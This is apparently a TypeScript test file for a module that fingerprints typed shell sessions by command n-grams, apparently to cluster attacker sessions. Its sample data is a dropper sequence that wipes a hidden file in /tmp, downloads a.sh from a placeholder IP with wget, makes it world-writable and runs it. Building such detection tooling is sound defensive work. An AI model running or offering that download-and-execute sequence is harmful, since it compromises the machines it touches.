import { describe, expect, it } from "vitest"
import { cmdNgram } from "../../../src/domain/session/cmdNgram.ts"
import { distance } from "../../../src/domain/session/distance.ts"
import { silent, typed } from "./madeSessions.ts"

const extract = (lines: ReadonlyArray<string>) =>
  cmdNgram.extract({ ...silent, commands: typed(lines) })
const apart = (a: ReadonlyArray<string>, b: ReadonlyArray<string>): number => {
  const [left, right] = [extract(a), extract(b)]
  if (left === undefined || right === undefined) throw new Error("not enough data")
  return distance(cmdNgram.metric, left.vector, right.vector)
}

const script = ["cd /tmp; rm -rf .x", "wget http://192.0.2.1/a.sh", "chmod 777 a.sh", "./a.sh"]

describe("the fingerprint of what was typed", () => {
  it("does not see what varies by design", () => {
    const elsewhere = script.map((line) => line.replace("192.0.2.1", "203.0.113.77:8080"))
    expect(apart(script, elsewhere)).toBeCloseTo(0, 6)
  })

  it("is near for a script that is a little different, and far for another", () => {
    const longer = [...script, "rm a.sh"]
    const other = ["enable", "system", "shell", "sh", "cat /proc/mounts"]
    expect(apart(script, longer)).toBeGreaterThan(0.01)
    expect(apart(script, longer)).toBeLessThan(0.25)
    expect(apart(script, other)).toBeGreaterThan(0.7)
  })

  it("sees the order of the lines", () => {
    expect(apart(script, script.toReversed())).toBeGreaterThan(0.05)
  })

  it("does not let a loop drown the rest", () => {
    const step = "echo -n x >> f"
    const loop = (steps: number) => [...script, ...Array.from({ length: steps }, () => step)]
    expect(apart(loop(20), loop(40))).toBeLessThan(0.02)
    expect(apart(script, loop(100))).toBeLessThan(0.7)
  })

  it("is not there where next to nothing was typed", () => {
    expect(extract([])).toBeUndefined()
    expect(extract(["uname -a", "ls"])).toBeUndefined()
    expect(extract(["uname -a", "ls -l"])).toBeDefined()
  })
})
